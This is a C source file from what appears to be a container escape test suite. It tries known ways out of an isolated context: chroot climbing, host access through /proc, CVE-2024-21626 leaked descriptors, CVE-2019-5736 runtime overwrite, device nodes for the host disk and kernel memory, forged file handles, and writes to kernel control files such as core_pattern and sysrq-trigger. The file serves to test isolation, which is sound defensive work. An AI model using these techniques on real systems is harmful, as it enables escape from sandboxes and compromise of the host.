/* Attacks through the file tree: leaving the root, reaching the host's files and descriptors. */
#include <dirent.h>
#include <fcntl.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <sys/sysmacros.h>
#include <unistd.h>

#include "tests/escape/src/attack.h"

/* The classic: chroot() below a directory that stays open, then climb. */
static bool chroot_climb(void)
{
	char dir[] = "/tmp/climb-XXXXXX";
	int root = open("/", O_RDONLY | O_DIRECTORY | O_CLOEXEC);
	if (mkdtemp(dir) == NULL || chroot(dir) < 0) {
		(void) got(-1, "chroot");
		(void) rmdir(dir);
		return false;
	}
	if (fchdir(root) < 0) {
		return got(-1, "fchdir");
	}
	(void) unlinkat(root, dir + 1, AT_REMOVEDIR);
	for (int i = 0; i < 200; i++) {
		if (chdir("..") < 0) {
			return got(-1, "chdir ..");
		}
	}
	if (chroot(".") < 0) {
		return got(-1, "chroot .");
	}
	int top = open("/", O_PATH | O_DIRECTORY | O_CLOEXEC);
	say("climbed to a root that is %s", is_host_root(top) ? "the host's" : "the context's own");
	return is_host_root(top);
}

/* Calls f(path) for /proc/PID/NAME of every process, and for its descriptors. */
static bool each_proc(const char *what, bool (*f)(const char *path))
{
	DIR *proc = opendir("/proc");
	struct dirent *d;
	char path[300];
	while (proc != NULL && (d = readdir(proc)) != NULL) {
		if (d->d_name[0] < '0' || d->d_name[0] > '9') {
			continue;
		}
		snprintf(path, sizeof(path), "/proc/%.20s/%s", d->d_name, what);
		if (f(path)) {
			closedir(proc);
			return true;
		}
	}
	if (proc != NULL) {
		closedir(proc);
	}
	return false;
}

static bool leads_to_host(const char *path)
{
	int fd = open(path, O_PATH | O_CLOEXEC);
	bool host = fd >= 0 && is_host_root(fd);
	if (fd >= 0) {
		close(fd);
	}
	if (host) {
		say("%s is the host's root", path);
	}
	return host;
}

static bool proc_root(void)
{
	say("no process shows the host's root");
	return each_proc("root", leads_to_host) || each_proc("cwd", leads_to_host);
}

/* For each descriptor of a process: is it a way to the host? */
static bool descriptors(const char *path, bool (*f)(const char *path))
{
	DIR *dir = opendir(path);
	struct dirent *d;
	char name[600];
	bool through = false;
	while (dir != NULL && !through && (d = readdir(dir)) != NULL) {
		if (d->d_name[0] != '.') {
			snprintf(name, sizeof(name), "%s/%s", path, d->d_name);
			through = f(name);
		}
	}
	if (dir != NULL) {
		closedir(dir);
	}
	return through;
}

static bool fds_lead_to_host(const char *path)
{
	return descriptors(path, leads_to_host);
}

static bool proc_fds(void)
{
	say("no descriptor of any process leads to the host");
	return each_proc("fd", fds_lead_to_host);
}

/* Process 1 writes the exit status into a file of the host: nobody inside may write there. */
static bool opens_for_writing(const char *path)
{
	struct stat st;
	if (stat(path, &st) < 0 || !S_ISREG(st.st_mode)) {
		return false;
	}
	int fd = open(path, O_WRONLY | O_CLOEXEC);
	if (fd >= 0) {
		say("%s opens for writing", path);
		close(fd);
	}
	return fd >= 0;
}

static bool status_file(void)
{
	say("process 1 shows no file that opens for writing");
	return descriptors("/proc/1/fd", opens_for_writing);
}

/* CVE-2024-21626: a descriptor or working directory of the runtime that was not closed. */
static bool leaked(const char *path)
{
	char target[256];
	int fd = atoi(strrchr(path, '/') + 1);
	ssize_t n = readlink(path, target, sizeof(target) - 1);
	if (fd <= 2 || n < 0) {
		return false;
	}
	target[n] = '\0';
	if (strncmp(target, "/proc/", 6) == 0) { /* our own opendir() */
		return false;
	}
	say("descriptor %d is open on %s", fd, target);
	return true;
}

static bool leaked_fds(void)
{
	char cwd[4096];
	if (descriptors("/proc/self/fd", leaked)) {
		return true;
	}
	if (getcwd(cwd, sizeof(cwd)) == NULL || cwd[0] != '/') {
		say("the working directory lies outside the root");
		return true;
	}
	int up = open("../../../../../../../../../..", O_PATH | O_CLOEXEC);
	say("only 0, 1 and 2 are open, and .. ends at the context's root");
	return up >= 0 && is_host_root(up);
}

/* CVE-2019-5736: overwriting the program that enters the context. */
static bool writable_exe(const char *path)
{
	char target[256] = "";
	char own[256] = "";
	ssize_t n = readlink(path, target, sizeof(target) - 1);
	ssize_t m = readlink("/proc/self/exe", own, sizeof(own) - 1);
	if (n > 0 && n == m && memcmp(target, own, (size_t) n) == 0) {
		return false; /* this very file: the test gives it read-only */
	}
	if (n > 0 && strstr(target, "ward") == NULL && strstr(path, "/1/") == NULL) {
		return false; /* a file of the context itself */
	}
	int fd = open(path, O_WRONLY | O_CLOEXEC);
	if (fd >= 0) {
		say("%s (%s) opens for writing", path, target);
		close(fd);
	}
	return fd >= 0;
}

static bool exe_overwrite(void)
{
	say("no program of the runtime opens for writing");
	return each_proc("exe", writable_exe);
}

/* A node for the host's disk, tried wherever a file may be made. */
static bool reads_node(const char *dir, mode_t kind, dev_t dev)
{
	char path[64], block[512];
	snprintf(path, sizeof(path), "%s/attack-node", dir);
	(void) unlink(path);
	if (mknod(path, kind | 0600, dev) < 0) {
		return got(-1, "mknod");
	}
	int fd = open(path, O_RDONLY | O_CLOEXEC | O_NONBLOCK);
	bool through = fd >= 0 && read(fd, block, sizeof(block)) == sizeof(block);
	if (!through) {
		(void) got(-1, "open or read of the node");
	} else {
		say("read a device through a node in %s", dir);
	}
	if (fd >= 0) {
		close(fd);
	}
	(void) unlink(path);
	return through;
}

static bool node_anywhere(mode_t kind, dev_t dev)
{
	static const char *const dirs[] = { "/dev", "/dev/shm", "/tmp", "/var/tmp", "/root", "/" };
	for (size_t i = 0; i < sizeof(dirs) / sizeof(dirs[0]); i++) {
		if (reads_node(dirs[i], kind, dev)) {
			return true;
		}
	}
	return false;
}

static bool mknod_disk(void)
{
	unsigned major_nr = 0, minor_nr = 0;
	if (sscanf(told("HOST_DISK"), "%u:%u", &major_nr, &minor_nr) != 2) {
		say("the test names no disk");
		return false;
	}
	return node_anywhere(S_IFBLK, makedev(major_nr, minor_nr));
}

static bool mknod_kmem(void)
{
	return node_anywhere(S_IFCHR, makedev(1, 1)) || node_anywhere(S_IFCHR, makedev(1, 4));
}

/* A forged handle of inode 2, the root directory of ext4 (shocker.c). */
static bool handle_of_root(void)
{
	static const uint32_t inode_and_generation[2] = { 2, 0 };
	_Alignas(struct file_handle) char space[sizeof(struct file_handle) + 8];
	struct file_handle *forged = (struct file_handle *) space;
	static const char *const anchors[] = { "/srv", "/", "/etc/hostname", "/etc/resolv.conf" };
	forged->handle_bytes = 8;
	forged->handle_type = 1; /* inode, generation */
	memcpy(space + sizeof(*forged), inode_and_generation, 8);
	for (size_t i = 0; i < sizeof(anchors) / sizeof(anchors[0]); i++) {
		int at = open(anchors[i], O_RDONLY | O_CLOEXEC);
		int fd = at < 0 ? -1 : open_by_handle_at(at, forged, O_PATH | O_DIRECTORY);
		if (fd >= 0) {
			say("opened inode 2 of the file system below %s", anchors[i]);
			return true;
		}
		(void) got(-1, "open_by_handle_at");
	}
	return false;
}

static bool host_marker(void)
{
	say("the marker of the host is not to be seen");
	return access(told("HOST_MARKER"), F_OK) == 0 &&
	       open(told("HOST_MARKER"), O_RDONLY | O_CLOEXEC) >= 0;
}

/* Files that tell or change what is the host's alone. */
static bool opens_any(const char *const *paths, int flags)
{
	for (; *paths != NULL; paths++) {
		int fd = open(*paths, flags | O_CLOEXEC | O_NONBLOCK);
		char byte;
		bool through =
			fd >= 0 && ((flags & O_ACCMODE) != O_RDONLY || read(fd, &byte, 1) == 1);
		if (fd >= 0) {
			close(fd);
		}
		if (through) {
			say("%s opens for %s", *paths,
			    (flags & O_ACCMODE) == O_RDONLY ? "reading" : "writing");
			return true;
		}
	}
	say("none of the files opens");
	return false;
}

static bool write_sysctls(void)
{
	static const char *const paths[] = { "/proc/sys/kernel/core_pattern",
					     "/proc/sys/kernel/modprobe",
					     "/proc/sysrq-trigger",
					     "/proc/sys/vm/drop_caches",
					     "/proc/sys/vm/panic_on_oom",
					     "/proc/sys/fs/file-max",
					     "/proc/sys/kernel/panic",
					     "/proc/sys/fs/binfmt_misc/register",
					     "/proc/irq/default_smp_affinity",
					     "/proc/sys/kernel/pid_max",
					     "/proc/mtrr",
					     "/sys/kernel/uevent_helper",
					     "/sys/power/state",
					     "/sys/kernel/mm/ksm/run",
					     "/sys/kernel/mm/transparent_hugepage/enabled",
					     "/sys/block/vda/queue/scheduler",
					     "/sys/devices/system/cpu/cpu1/online",
					     "/sys/kernel/profiling",
					     NULL };
	return opens_any(paths, O_WRONLY);
}

static bool read_secrets(void)
{
	static const char *const paths[] = { "/proc/kcore",	  "/dev/mem",  "/dev/port",
					     "/proc/kmsg",	  "/dev/kmsg", "/proc/vmallocinfo",
					     "/proc/timer_list",  "/dev/vda",  "/dev/loop0",
					     "/dev/loop-control", NULL };
	return opens_any(paths, O_RDONLY);
}

const struct attack file_attacks[] = {
	{ "chroot-climb", chroot_climb, false },
	{ "proc-root", proc_root, true },
	{ "proc-fds", proc_fds, false },
	{ "status-file", status_file, false },
	{ "leaked-fds", leaked_fds, false },
	{ "exe-overwrite", exe_overwrite, false },
	{ "mknod-disk", mknod_disk, true },
	{ "mknod-kmem", mknod_kmem, false },
	{ "open-by-handle", handle_of_root, false },
	{ "host-marker", host_marker, true },
	{ "write-sysctls", write_sysctls, true },
	{ "read-kernel-memory", read_secrets, true },
	{ NULL, NULL, false },
};
